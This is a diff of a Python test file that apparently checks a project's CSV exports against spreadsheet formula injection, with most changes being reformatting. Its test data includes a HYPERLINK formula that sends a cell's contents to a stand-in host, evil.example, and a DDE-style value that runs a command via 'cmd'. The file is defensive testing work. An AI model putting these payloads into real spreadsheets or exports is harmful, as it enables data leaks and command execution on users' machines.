@@ -1,5 +1,6 @@
 """Every CSV the project writes opens in a spreadsheet as data: a name such as
 =HYPERLINK(...) becomes text (a single quote in front), numbers stay as they are."""
+
 import csv
 import io
 
@@ -13,8 +14,9 @@ from tests.fixtures.dialer import add_residence
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
 
 
-@pytest.mark.parametrize("value", [HOSTILE, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)",
-                                   "\t=1+1", "\r=1+1"])
+@pytest.mark.parametrize(
+    "value", [HOSTILE, "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "\t=1+1", "\r=1+1"]
+)
 def test_a_formula_becomes_text(value):
     assert csv_safe.cell(value) == "'" + value
 
@@ -27,9 +29,13 @@ def test_data_stays_as_it_is(value):
 @pytest.fixture
 def launched(app, session):
     add_residence(session, ["+14185550101"], last_name=HOSTILE)
-    campaign = campaigns.create_campaign(session, "test@saguenay.example", title="Avis",
-                                         message_fr="Faites bouillir l'eau.",
-                                         target={"all": True})
+    campaign = campaigns.create_campaign(
+        session,
+        "test@saguenay.example",
+        title="Avis",
+        message_fr="Faites bouillir l'eau.",
+        target={"all": True},
+    )
     campaigns.launch(app, campaign.id, "tester")
     return campaign.id
 
